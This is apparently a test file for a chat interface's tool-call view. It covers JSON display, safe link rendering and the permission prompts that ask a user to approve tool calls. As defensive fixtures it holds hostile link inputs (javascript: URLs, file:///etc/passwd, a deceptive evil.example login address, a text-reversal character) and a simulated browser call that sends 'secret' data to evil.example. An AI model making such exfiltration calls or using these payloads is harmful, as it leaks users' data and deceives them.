/**
 * @jest-environment ./tests/support/browser-environment.mjs
 */
import { fireEvent, screen, within } from '@testing-library/react';
import { ToolCallView } from '@/components/thread/tools/tool-call-view';
import type { ToolCallPart } from '@/lib/domain/message/content-part';
import { showInEnglish } from '../../support/browser/show-in-english';

const CALL: ToolCallPart = {
  type: 'tool_call',
  toolCallId: 'c',
  name: 'calculator',
  input: '{}',
  output: null,
  state: 'done',
  durationMs: 10,
};

function shown(output: string): string | null {
  const { container, unmount } = showInEnglish(
    <ToolCallView call={{ ...CALL, output }} messageId="10000000-0000-4000-8000-000000000001" />,
  );
  const text = [...container.querySelectorAll('pre')].at(-1)?.textContent ?? null;
  unmount();
  return text;
}

it('shows JSON over several lines', () => {
  expect(shown('{"id":"3e4-1234567890123456","sum":3.5}')).toBe(
    '{\n  "id": "3e4-1234567890123456",\n  "sum": 3.5\n}',
  );
});

it.each([
  '3.70370367e+8',
  '12345678901234567890',
  '{"id":12345678901234567890}',
  '[1.5e3]',
  '{"a": 1',
  'words',
  `${'['.repeat(3_000)}${']'.repeat(3_000)}`,
])('shows %.40s as the model read it', (output) => {
  expect(shown(output)).toBe(output);
});

it('divides a long result, and gives it no more links than a short one', () => {
  const output = Array.from({ length: 900 }, (_, index) => `https://a.example/${String(index)}\n`).join('');
  const { container } = showInEnglish(<ToolCallView call={{ ...CALL, output }} />);
  const result = [...container.querySelectorAll('pre')].at(-1);
  expect(result?.textContent).toBe(output);
  expect(result?.children.length).toBeGreaterThan(3);
  expect(within(result ?? container).getAllByRole('link', { hidden: true })).toHaveLength(200);
});

describe('a call of Python', () => {
  const code = 'import math\nfor n in range(3):\n    print("n", n)';

  function showCode(input: string) {
    return showInEnglish(
      <ToolCallView
        call={{ ...CALL, name: 'python', title: 'Python', input, output: 'n 0' }}
        messageId="10000000-0000-4000-8000-000000000001"
      />,
    ).container;
  }

  it('shows its code in lines, highlighted and with a button that copies it once it is opened', async () => {
    const container = showCode(JSON.stringify({ code }));
    expect(container.querySelector('pre')?.textContent).toBe(code);
    fireEvent.click(container.querySelector('summary') ?? container);
    const block = await screen.findByRole('figure');
    expect(block.querySelector('pre')?.textContent).toBe(code);
    expect(within(block).getByRole('button', { name: 'Copy' })).toBeVisible();
    expect(screen.getByText('Code')).toBeVisible();
    expect(screen.queryByText('Input')).toBeNull();
  });

  it('shows arguments that are not complete as they are', () => {
    expect(showCode('{"code": "import ma').querySelector('pre')?.textContent).toBe('{"code": "import ma');
  });
});

describe('addresses in a result', () => {
  function linksOf(output: string) {
    const { container, unmount } = showInEnglish(<ToolCallView call={{ ...CALL, output }} />);
    const links = [...container.querySelectorAll('a')].map((link) => ({
      text: link.textContent,
      address: link.getAttribute('href'),
      rel: link.rel,
    }));
    expect([...container.querySelectorAll('pre')].at(-1)?.textContent).toBe(output);
    unmount();
    return links;
  }

  it.each([
    ['See https://docs.example/a.', 'https://docs.example/a'],
    ['[Report](https://docs.example/r_(1)) the first', 'https://docs.example/r_(1)'],
    ['{\n  "url": "http://docs.example/?q=1&p=2"\n}', 'http://docs.example/?q=1&p=2'],
  ])('can be followed in %s', (output, address) => {
    expect(linksOf(output)).toEqual([{ text: address, address, rel: 'noopener noreferrer nofollow' }]);
  });

  it.each([
    '[Report](javascript:alert(1))',
    'data:text/html,<b>hello</b>',
    'file:///etc/passwd',
    'https://bank.example@evil.example/login',
    '<a href="javascript:alert(1)">x</a>',
    'https://',
  ])('stay words in %s', (output) => {
    expect(linksOf(output)).toEqual([]);
  });

  it('end before a character that would turn their letters around', () => {
    const [link] = linksOf('https://docs.example/\u202Emoc.knab');
    expect(link?.address).toBe('https://docs.example/');
  });
});

it('a call that is asked about names the server of its tool', async () => {
  const asking: ToolCallPart = {
    ...CALL,
    state: 'asking',
    output: null,
    title: 'Echo',
    serverTitle: 'Everything',
  };
  showInEnglish(<ToolCallView call={asking} messageId="10000000-0000-4000-8000-000000000001" />);
  expect(await screen.findByRole('group', { name: 'Allow Echo?' })).toHaveTextContent('Everything');
});

describe('a call whose words would leave', () => {
  const asking: ToolCallPart = {
    ...CALL,
    name: 'web-browser',
    state: 'asking',
    output: null,
    input: JSON.stringify({ url: 'https://evil.example/?d=secret', more: 'x'.repeat(2_000) }),
    flow: {
      host: 'evil.example',
      address: 'https://evil.example/?d=secret',
      method: 'GET',
      sources: ['file'],
    },
  };

  it('says which host, which address, which data and why, and offers no permission for all chats', async () => {
    showInEnglish(<ToolCallView call={asking} messageId="10000000-0000-4000-8000-000000000001" />);
    const card = await screen.findByRole('group', { name: 'Send this to evil.example?' });
    expect(card).toHaveTextContent('This answer has read what others wrote: file.');
    expect(card).toHaveTextContent('GET');
    expect(card).toHaveTextContent('https://evil.example/?d=secret');
    const buttons = within(card)
      .getAllByRole('button')
      .map(({ textContent }) => textContent);
    expect(buttons).toEqual(['Show all', 'Allow once', 'Allow this host in this chat', 'Do not allow']);
    expect(card).not.toHaveTextContent('x'.repeat(1_000));
    fireEvent.click(within(card).getByRole('button', { name: 'Show all' }));
    expect(card).toHaveTextContent('x'.repeat(2_000));
  });
});

it('says that a call may have been carried out, also where it is folded', () => {
  showInEnglish(<ToolCallView call={{ ...CALL, state: 'unknown', title: 'Payments' }} />);
  expect(screen.getByText('Payments: sent, result unknown')).toBeVisible();
  expect(screen.getByText(/It may have been done\. Check there/)).toBeVisible();
});

it('says that a tool lost what earlier calls left with it, also where it is folded', () => {
  showInEnglish(<ToolCallView call={{ ...CALL, state: 'done', output: 'x', hasBegunAgain: true }} />);
  expect(screen.getByText(/This tool started over/)).toBeVisible();
});

it('a call that may be a repetition is allowed once or not at all', async () => {
  showInEnglish(
    <ToolCallView
      call={{ ...CALL, state: 'asking', title: 'Payments', isRepeat: true }}
      messageId="10000000-0000-4000-8000-000000000001"
    />,
  );
  const card = await screen.findByRole('group', { name: 'Run Payments again?' });
  const buttons = within(card).getAllByRole('button');
  expect(buttons.map(({ textContent }) => textContent)).toEqual(['Allow once', 'Do not allow']);
  expect(within(card).getByText(/it may have been done already/)).toBeVisible();
});
